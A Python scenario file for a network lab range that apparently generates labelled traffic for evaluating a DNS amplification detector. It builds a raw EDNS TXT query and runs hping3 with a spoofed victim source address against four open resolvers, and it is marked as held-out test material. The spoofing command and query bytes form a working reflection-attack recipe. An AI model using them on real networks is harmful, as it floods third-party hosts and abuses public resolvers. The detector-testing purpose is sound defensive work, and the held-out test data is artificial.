"""Four open resolvers outside send an inside host long answers that somebody else asked for."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# TXT of big.range.example with an EDNS size of 4,096 octets (RFC 6891): 46 octets for 3.7 kB.
QUESTION = (
    bytes.fromhex("5cc8 0100 0001 0000 0000 0001")
    + b"\x03big\x05range\x07example\x00"
    + bytes.fromhex("0010 0001 00 0029 1000 0000 0000 0000")
)


def run(net: Range) -> None:
    attacker, victim = net.outside("attacker"), net.inside("pc4")
    resolvers = [net.outside(f"resolver{number}") for number in (1, 2, 3, 4)]
    for one in resolvers:
        servers.resolver(one)
    net.everyday()
    net.loop(victim, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.2)
    net.loop(victim, f"dig +tries=1 +timeout=2 @{resolvers[0].ip} www.range.example A", 1.5)
    command = f"dig +notcp +ignore +bufsize=4096 +tries=1 +timeout=2 @{resolvers[1].ip} big.range.example TXT"
    net.loop(net.inside("pc1"), command, 2.0)
    net.quiet(4)
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=resolvers,
        attackers=[],
        attacker_known=False,
        victims=[victim],
        others={"reflector": resolvers, "claimed": [victim]},
        also=["udp-flood"],
        frames=f"dst host {victim.ip} and (udp src port 53 or ip[6:2] & 0x1fff != 0)",
        responses=f"icmp and src host {victim.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 3074 -k -p 53 -d {len(QUESTION)} -E {question}"
        words += " -i u45000 -c 200"
        started = [net.start(attacker, *words.split(), one.ip) for one in resolvers]
        for process in started:
            process.wait(20)
        net.quiet(1)
    net.quiet(3)


SCENARIO = Scenario(
    name="amplification-held-resolvers",
    about="Four resolvers outside send an inside host 3.7 kB of TXT some ninety times a second, unasked.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "named": "bind9"},
    held_out=True,
    snap_octets=64,
    run=run,
)
